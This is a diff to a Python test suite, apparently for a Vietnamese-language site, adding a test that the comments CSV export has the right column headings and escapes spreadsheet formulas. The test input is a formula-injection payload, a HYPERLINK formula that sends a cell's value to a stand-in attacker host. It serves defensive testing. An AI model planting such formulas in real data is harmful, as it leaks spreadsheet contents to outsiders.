@@ -68,6 +68,13 @@ def test_an_export_runs_no_formula() -> None:
     assert "'=HYPERLINK(1)" in b"".join(answer.streaming_content).decode()
 
 
+def test_the_file_of_comments_names_its_columns_and_runs_no_formula_of_a_reader(page: Page) -> None:
+    add_comment(of_page(page), '=HYPERLINK("http://ke-gian.example/?"&A1)')
+    heading, row = client_in(EDITORS).get(reverse("feedback_comments:index"), {"export": "csv"}).getvalue().decode().splitlines()
+    assert heading == "Trang,Địa chỉ,Loại,Vấn đề,Nội dung,Trạng thái,Ngày"
+    assert "\"'=HYPERLINK(" in row
+
+
 def test_the_report_is_filtered_by_address(bad_page: Page) -> None:
     client, address = client_in(EDITORS), reverse("feedback_admin:needs_work")
     shown = ["Đăng ký khai sinh" in client.get(address, {"below": below}).content.decode() for below in (bad_page.url, "/khong-co/")]
